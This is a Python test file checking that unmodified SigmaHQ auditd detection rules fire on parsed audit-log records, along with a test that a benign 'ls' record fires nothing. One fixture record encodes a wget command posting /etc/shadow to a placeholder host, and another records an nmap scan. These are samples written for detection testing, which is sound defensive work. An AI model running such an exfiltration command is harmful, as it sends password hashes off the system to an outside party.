"""SigmaHQ's auditd rules, unmodified, fire on raw audit records as our auditd parser normalises them."""

from __future__ import annotations

from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from connectors.parsers import ParseContext, parse_line
from detectors.sigma import SigmaEngine
from tests.sigma.conftest import SHARED, need

AUDITD = SHARED / "sigma" / "rules" / "linux" / "auditd"

# (raw record, rule title expected to fire); records written as auditd writes them to /var/log/audit/audit.log.
CASES = [
    ('type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="wget" a1="--post-file=/etc/shadow" a2="http://x/"',
     "Data Exfiltration with Wget"),
    ('type=SYSCALL msg=audit(1700000001.000:43): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=10 '
     'a3=0 items=0 ppid=100 pid=102 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 '
     'sgid=1000 fsgid=1000 tty=pts0 ses=1 comm="nmap" exe="/usr/bin/nmap" key="network_connect_4"',
     "Linux Network Service Scanning - Auditd"),
    ('type=PATH msg=audit(1700000002.000:44): item=0 name="/etc/audit/auditd.conf" inode=12 dev=fd:00 '
     'mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0',
     "Auditing Configuration Changes on Linux Host"),
]


@pytest.fixture(scope="module")
def engine() -> SigmaEngine:
    return SigmaEngine([need(AUDITD)])


@pytest.mark.parametrize(("line", "title"), CASES)
def test_sigmahq_auditd_rule_fires_on_parsed_record(engine: SigmaEngine, line: str, title: str) -> None:
    ctx = ParseContext(tz=ZoneInfo("UTC"), source="t", received=datetime.now(UTC))
    [doc] = parse_line("auditd", line, ctx)
    assert doc["auditd"]["log"]["record_type"] == line.split()[0].split("=")[1]
    fired = {a["rule"]["name"] for a in engine.process(doc)}
    assert title in fired


def test_a_benign_record_fires_nothing(engine: SigmaEngine) -> None:
    ctx = ParseContext(tz=ZoneInfo("UTC"), source="t", received=datetime.now(UTC))
    [doc] = parse_line("auditd", 'type=EXECVE msg=audit(1700000003.000:45): argc=2 a0="ls" a1="-l"', ctx)
    assert engine.process(doc) == []
